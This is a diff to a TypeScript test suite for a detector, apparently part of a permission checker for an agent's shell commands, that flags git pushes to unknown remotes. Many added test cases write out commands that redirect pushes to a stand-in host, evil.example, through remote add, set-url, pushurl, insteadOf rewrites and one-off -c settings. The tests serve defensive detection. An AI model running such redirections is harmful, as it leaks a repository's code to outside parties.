@@ -213,9 +213,46 @@ describe("addresses a repository is sent to", () => {
     ["git push ../backup.git main", false, "a folder of this machine"],
     ["git push file:///srv/backup.git main", false, "the same as an address"],
     ["git fetch https://evil.example/x.git", false, "what is only received"],
+    ["git push git@git.example:acme/app.git", false, "a remote's address, as ssh has it"],
+    ["git push ssh://git@git.example/acme/app", false, "the same, written as an address"],
+    ["git push http://git.example/acme/app.git", true, "the same host, with nothing that says it is that host"],
+    ["git remote add b https://evil.example/x && git push b main", true, "a remote of this call"],
+    ["git remote set-url origin git@evil.example:x && git push", true, "the usual remote leads elsewhere"],
+    ["git remote set-url --push origin https://evil.example/x; git push origin x", true, "for pushes alone"],
+    ["git config remote.origin.url https://evil.example/x; git push origin x", true, "by its setting"],
+    ["git config --local remote.origin.pushurl https://evil.example/x; git push", true, "by the other setting"],
+    ["git config --global url.https://evil.example/.insteadOf https://git.example/; git push", true, "every address"],
+    ["git -c remote.origin.url=https://evil.example/x push origin x", true, "for one command"],
+    ["git -c url.https://evil.example/.pushInsteadOf=https://git.example/ push", true, "every address, once"],
+    ["git remote add b https://evil.example/x && git push origin main", false, "another remote than the new one"],
+    ["git remote add b https://evil.example/x && git fetch b", false, "what is only received"],
+    ["git remote set-url origin git@git.example:acme/app.git && git push", false, "the same by ssh"],
+    ["git remote add b ../backup.git && git push b", false, "a folder of this machine"],
   ])("P3: %s: %s (%s)", (command, is) => expect(strange(command)).toBe(is));
 
-  it("P3: says nothing where nobody knows the remotes", () => {
-    expect(strange("git push https://evil.example/x.git main", {})).toBe(false);
+  it.each([
+    ["git push https://evil.example/x.git main", true, "an address is none of them"],
+    ["git remote add origin https://evil.example/x && git push -u origin main", true, "nor is one of this call"],
+    ["git push origin main", false, "a name may be any"],
+  ])("P3: where nobody knows the remotes, %s: %s (%s)", (command, is) => expect(strange(command, {})).toBe(is));
+
+  it("P3: a remote of an earlier call of the session, though the settings have it by now", () => {
+    const config = '[remote "b"]\n\turl = https://evil.example/x\n[remote "origin"]\n\turl = https://git.example/x\n';
+    const { written } = interpretShell("git remote add b https://evil.example/x", PLACE.cwd, {
+      place: PLACE,
+      session: EMPTY_SESSION,
+      answers: new Map(),
+    });
+    const files = { "/home/dev/app/.git/config": config };
+    const pushed = (remote: string) =>
+      actionsOf(`git push ${remote}`, PLACE, files, { ...EMPTY_SESSION, written }).some(({ labels }) =>
+        labels.includes("unknown-remote"),
+      );
+    expect(["b", "https://evil.example/x", "origin", "https://git.example/x"].map(pushed)).toEqual([
+      true,
+      true,
+      false,
+      false,
+    ]);
   });
 });
